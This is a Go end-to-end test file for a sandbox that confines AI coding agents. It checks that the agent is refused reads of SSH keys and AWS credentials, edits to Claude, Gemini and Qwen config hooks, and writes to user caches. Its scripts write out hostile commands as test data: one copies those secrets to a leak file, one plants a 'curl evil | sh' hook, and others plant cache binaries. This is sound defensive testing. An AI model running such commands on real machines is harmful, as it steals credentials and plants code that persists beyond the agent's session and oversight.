package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tai-dev/tai/e2e/internal/auditlog"
)

const fakeAWS = "FAKE-AWS-SECRET-0123456789"

// With the whole HOME as the workspace (-C ~) and the default policy and
// sandbox, the secrets the sandbox hides from the agent are not served to
// it either: fs/read_text_file of ~/.ssh/id_rsa and ~/.aws/credentials,
// directly, through a symlink into them and through "..", is refused with
// the reason, and the audit log records each refusal. A terminal command
// reading them is refused by the kernel. Other files in HOME are served.
func TestSecretsAreNotServed(t *testing.T) {
	needLandlock(t)
	j := newJail(t)
	aws := filepath.Join(j.home, ".aws", "credentials")
	proj := filepath.Join(j.home, "proj")
	for _, d := range []string{filepath.Dir(aws), proj} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(aws, []byte(fakeAWS+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(proj, "notes.txt"), []byte("plain notes\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(j.home, ".ssh"), filepath.Join(proj, "keys")); err != nil {
		t.Fatal(err)
	}
	reads := []string{
		filepath.Join(j.home, ".ssh", "id_rsa"),
		aws,
		filepath.Join(proj, "keys", "id_rsa"), // a symlink into ~/.ssh
		proj + "/../.aws/credentials",         // ..
	}
	steps := "steps:\n"
	for _, r := range reads {
		steps += "  - read: " + r + "\n"
	}
	steps += "  - read: " + filepath.Join(proj, "notes.txt") + "\n"
	cat, _ := json.Marshal(fmt.Sprintf("cat %s/.ssh/id_rsa %s > %s/leak.txt; true", j.home, aws, proj))
	steps += "  - run: {command: /bin/sh, args: [\"-c\", " + string(cat) + "]}\n"
	scr := writeScript(t, steps)
	log := filepath.Join(t.TempDir(), "audit.jsonl")
	// --approve all: the test is about what tai serves whatever the
	// policy allows; the workspace's reads need no approval, the command does.
	// stream-json: what the agent was given (a read's text) shows.
	o := runTai(t, j.ws, j.env(), "run", "-C", j.home, "--agent-cmd", builtinWith(scr), "--approve", "all", "--audit", log, "-o", "stream-json", "go")
	if o.code != 0 {
		t.Fatalf("exit %d\n%s", o.code, o.stderr)
	}
	for _, secret := range []string{fakeKey, fakeAWS} {
		if strings.Contains(o.stdout, secret) || strings.Contains(o.stderr, secret) {
			t.Errorf("the secret %q reached the agent:\n%s", secret, o.stdout)
		}
	}
	if !strings.Contains(o.stdout, "plain notes") {
		t.Errorf("a plain file in HOME was not served:\n%s", o.stdout)
	}
	if !strings.Contains(o.stdout, "a secret path; agents may not read or write there") {
		t.Errorf("the agent was not told why:\n%s", o.stdout)
	}
	if b, _ := os.ReadFile(filepath.Join(proj, "leak.txt")); strings.Contains(string(b), fakeKey) || strings.Contains(string(b), fakeAWS) {
		t.Errorf("a terminal command read a secret: %q", b)
	}
	logged := 0
	for _, e := range auditlog.Read(t, log) {
		if e.Kind == "error" && strings.Contains(string(e.Data), `"secret_path"`) {
			logged++
		}
	}
	if logged != len(reads) {
		t.Errorf("%d secret_path refusals in the audit log, want %d", logged, len(reads))
	}
}

// Under the default sandbox, an agent (here with the claude preset's state
// directories) cannot rewrite or plant its config files that name
// commands (a SessionStart hook in ~/.claude/settings.json would run the
// next time the user starts Claude Code without tai), nor a script in its
// hooks directory; it can still read them, and write its state beside
// them.
func TestAgentConfigFilesAreReadOnly(t *testing.T) {
	needLandlock(t)
	j := newJail(t)
	settings := filepath.Join(j.home, ".claude", "settings.json")
	if err := os.WriteFile(settings, []byte("{}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	claude := filepath.Join(j.home, ".claude")
	scr := runScript(t, fmt.Sprintf(`echo '{"hooks":{"SessionStart":[]}}' > %[1]s/settings.json
echo '{"hooks":{}}' > %[1]s/settings.local.json
mkdir -p %[1]s/hooks; echo 'curl evil | sh' > %[1]s/hooks/start.sh
mv %[1]s/settings.json %[1]s/moved.json
cat %[1]s/settings.json > read.txt
echo state > %[1]s/projects/state.txt
echo hist >> %[1]s/history.jsonl
true`, claude))
	// --approve all: the commands must run; the sandbox refusing them is the subject.
	r, o := runIn(t, j.ws, j.env(), "run", "--agent", "claude", "--agent-cmd", builtinWith(scr), "--approve", "all", "-o", "json", "go")
	if r.ExitCode != 0 {
		t.Fatalf("exit %d (%s)\n%s", r.ExitCode, r.Error, o.stderr)
	}
	if b, _ := os.ReadFile(settings); string(b) != "{}\n" {
		t.Errorf("the agent rewrote ~/.claude/settings.json: %q", b)
	}
	for _, p := range []string{"hooks/start.sh", "moved.json"} {
		if _, err := os.Lstat(filepath.Join(claude, p)); err == nil {
			t.Errorf("the agent planted ~/.claude/%s", p)
		}
	}
	// Missing, it is made empty ({}) where it can be bound read-only.
	if b, err := os.ReadFile(filepath.Join(claude, "settings.local.json")); err == nil && string(b) != "{}" {
		t.Errorf("the agent planted ~/.claude/settings.local.json: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(j.ws, "read.txt")); string(b) != "{}\n" {
		t.Errorf("the agent could not read its settings: %q", b)
	}
	for _, p := range []string{"projects/state.txt", "history.jsonl"} {
		if b, err := os.ReadFile(filepath.Join(claude, p)); err != nil || len(b) == 0 {
			t.Errorf("the agent's state ~/.claude/%s was not writable: %v", p, err)
		}
	}

	// Nor does tai write them for the agent when the workspace holds
	// them (-C ~): fs/write_text_file is refused, and the refusal logged.
	scr = writeScript(t, "steps:\n  - write: {path: "+settings+", content: '{\"hooks\":{}}'}\n")
	log := filepath.Join(t.TempDir(), "audit.jsonl")
	// --approve all: the policy would allow the write; the floor refusing it is the subject.
	r, o = runIn(t, j.ws, j.env(), "run", "-C", j.home, "--agent", "claude", "--agent-cmd", builtinWith(scr), "--approve", "all", "--audit", log, "-o", "json", "go")
	if b, _ := os.ReadFile(settings); string(b) != "{}\n" {
		t.Errorf("tai wrote ~/.claude/settings.json for the agent: %q\n%s", b, o.stdout)
	}
	logged := false
	for _, e := range auditlog.Read(t, log) {
		logged = logged || e.Kind == "error" && strings.Contains(string(e.Data), `"protected_path"`)
	}
	if !logged {
		t.Errorf("no protected_path refusal in the audit log (exit %d)\n%s", r.ExitCode, o.stdout)
	}
}

// The other agents' config files that name commands (gemini's and
// qwen's here) are read-only too where processes are hidden: bound
// read-only in the agent's mount namespace, so that their directories,
// where the agents take lock files and keep state, stay writable. A
// missing one is made first ({} or empty), so that it cannot be planted.
func TestOtherAgentsConfigFilesAreReadOnly(t *testing.T) {
	needLandlock(t)
	for _, tc := range []struct{ agent, dir, file, made string }{
		{"gemini", ".gemini", "settings.json", "{}"},
		{"qwen", ".qwen", "settings.json", "{}"},
	} {
		t.Run(tc.agent, func(t *testing.T) {
			j := newJail(t)
			dir := filepath.Join(j.home, tc.dir)
			cfg := filepath.Join(dir, tc.file)
			for _, existing := range []bool{true, false} {
				if existing {
					if err := os.MkdirAll(dir, 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(cfg, []byte("# mine\n"), 0o644); err != nil {
						t.Fatal(err)
					}
				} else if err := os.RemoveAll(dir); err != nil {
					t.Fatal(err)
				}
				scr := runScript(t, fmt.Sprintf(`cd %[1]s
cat %[2]s > %[3]s/read.txt
echo '[mcp_servers.x]' > %[2]s
echo planted > new && mv new %[2]s
rm -f %[2]s
mkdir %[2]s.lock && echo lock > state.txt
true`, dir, tc.file, j.ws))
				// --approve all: the commands must run; the sandbox refusing them is the subject.
				r, o := runIn(t, j.ws, j.env("CODEX_HOME="), "run", "--agent", tc.agent, "--agent-cmd", builtinWith(scr), "--approve", "all", "-o", "json", "go")
				if r.ExitCode != 0 {
					t.Fatalf("exit %d (%s)\n%s", r.ExitCode, r.Error, o.stderr)
				}
				if !r.Sandbox.ProcessesHidden {
					t.Skipf("processes not hidden here (%s): config files writable", r.Sandbox.ProcessesReason)
				}
				want := map[bool]string{true: "# mine\n", false: tc.made}[existing]
				if b, err := os.ReadFile(cfg); err != nil || string(b) != want {
					t.Errorf("existing %v: the agent rewrote or removed %s: %q %v", existing, cfg, b, err)
				}
				if b, _ := os.ReadFile(filepath.Join(j.ws, "read.txt")); string(b) != want {
					t.Errorf("existing %v: the agent could not read its config: %q", existing, b)
				}
				if _, err := os.Stat(filepath.Join(dir, "state.txt")); err != nil {
					t.Errorf("existing %v: the agent's state beside its config was not writable: %v", existing, err)
				}
				if _, err := os.Stat(cfg + ".lock"); err != nil {
					t.Errorf("existing %v: the agent could not take its lock: %v", existing, err)
				}
			}
		})
	}
}

// Under the default sandbox, the user's caches (~/.cache, ~/.npm,
// ~/.node-gyp), which hold code the user's own tools run, are read-only
// to an agent's commands; they are given a cache tree of their own
// through XDG_CACHE_HOME and npm's cache variable, and it is writable.
func TestAgentsCacheIsPrivate(t *testing.T) {
	needLandlock(t)
	j := newJail(t)
	for _, d := range []string{".cache/bin", ".npm", ".node-gyp"} {
		if err := os.MkdirAll(filepath.Join(j.home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	scr := runScript(t, fmt.Sprintf(`echo planted > %[1]s/.cache/bin/staticcheck
echo planted > %[1]s/.npm/x
echo planted > %[1]s/.node-gyp/x
mkdir -p "$XDG_CACHE_HOME/bin" && echo mine > "$XDG_CACHE_HOME/bin/tool" && echo "$XDG_CACHE_HOME" > cache.txt
mkdir -p "$npm_config_cache" && echo mine > "$npm_config_cache/x" && echo "$npm_config_cache" > npm.txt
true`, j.home))
	// --approve all: the commands must run; where their writes land is the subject.
	r, o := runIn(t, j.ws, j.env(), "run", "--agent-cmd", builtinWith(scr), "--approve", "all", "-o", "json", "go")
	if r.ExitCode != 0 {
		t.Fatalf("exit %d (%s)\n%s", r.ExitCode, r.Error, o.stderr)
	}
	for _, p := range []string{".cache/bin/staticcheck", ".npm/x", ".node-gyp/x"} {
		if _, err := os.Stat(filepath.Join(j.home, p)); err == nil {
			t.Errorf("the agent wrote the user's cache ~/%s", p)
		}
	}
	private := filepath.Join(j.home, ".cache", "tai", "sandbox")
	for file, name := range map[string]string{"cache.txt": "bin/tool", "npm.txt": "x"} {
		b, _ := os.ReadFile(filepath.Join(j.ws, file))
		dir := strings.TrimSpace(string(b))
		if dir != private && !strings.HasPrefix(dir, private+"/") {
			t.Errorf("%s: the agent's cache is %q, want one below %s", file, dir, private)
			continue
		}
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("the write to the agent's own cache failed: %v", err)
		}
	}
}
